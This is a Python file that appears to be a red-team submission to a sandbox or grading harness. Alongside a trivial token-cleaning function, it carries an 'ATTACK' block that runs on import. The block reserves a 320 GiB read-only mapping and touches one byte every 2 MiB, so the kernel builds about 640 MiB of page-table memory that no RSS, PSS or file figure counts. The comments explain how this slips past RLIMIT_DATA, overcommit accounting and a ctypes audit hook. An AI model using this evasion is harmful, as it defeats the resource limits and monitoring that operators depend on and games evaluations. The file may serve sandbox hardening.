# ATTACK (b)/(f): kernel page tables as unweighed memory.  One private,
# read-only anonymous mapping of 320 GiB (not writable: outside RLIMIT_DATA
# and the overcommit count; no RLIMIT_AS), and one byte read every 2 MiB:
# each read maps the shared zero page (counted in no RSS) and makes the kernel
# allocate a page-table page (4 KiB) for that 2 MiB: 160 Ki page-table pages,
# 640 MiB, in no RSS/PSS, /dev/shm, file or socket figure.  `mmap` module:
# no ctypes (audit hook on).  Honest solution otherwise.
import mmap
import sys

SPAN = 320 << 30
STEP = 2 << 20
_err = None
_n = 0
try:
    _m = mmap.mmap(-1, SPAN, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    for off in range(0, SPAN, STEP):
        _m[off]
        _n += 1
except (OSError, ValueError, OverflowError) as e:
    _err = e
print(f"pte_hoard: {_n} page-table pages touched, about {_n * 4 >> 10} MiB ({_err!r})",
      file=sys.stderr)


def clean_tokens(words):
    return [t for t in map(str.lower, map(str.strip, words)) if t]


def iter_clean_tokens(words):
    return (t for t in map(str.lower, map(str.strip, words)) if t)
